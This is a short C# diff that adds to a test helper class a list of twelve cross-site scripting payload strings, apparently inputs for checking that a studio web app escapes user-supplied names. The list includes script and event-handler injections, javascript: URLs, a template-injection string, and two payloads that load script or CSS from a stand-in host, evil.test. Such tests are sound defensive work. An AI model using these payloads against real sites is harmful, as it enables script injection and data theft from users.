@@ -12,6 +12,14 @@ sealed class Page : IAsyncDisposable
     /// <summary>What somebody may have called a run, a class or a picture.</summary>
     internal const string Evil = "\"><img src=x onerror=alert(1)>";
 
+    /// <summary>Twelve such texts, each with another way into a page.</summary>
+    internal static readonly IReadOnlyList<string> Evils =
+    [
+        "<img src=x onerror=alert(11)>", "\"><svg/onload=alert(12)>", "'><script>alert(13)</script>", "<script src=//evil.test/x.js></script>", "javascript:alert(14)",
+        "</script><script>alert(15)</script>", "<iframe srcdoc='<script>alert(16)</script>'>", "<a href=\"javascript:alert(17)\">x</a>", "{{constructor.constructor('alert(18)')()}}",
+        "<style>@import 'http://evil.test/x.css'</style>", "\" autofocus onfocus=alert(19) x=\"", "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(20)>",
+    ];
+
     readonly string root = Directory.CreateTempSubdirectory("kindred-studio-").FullName;
     StudioServer? server;
 
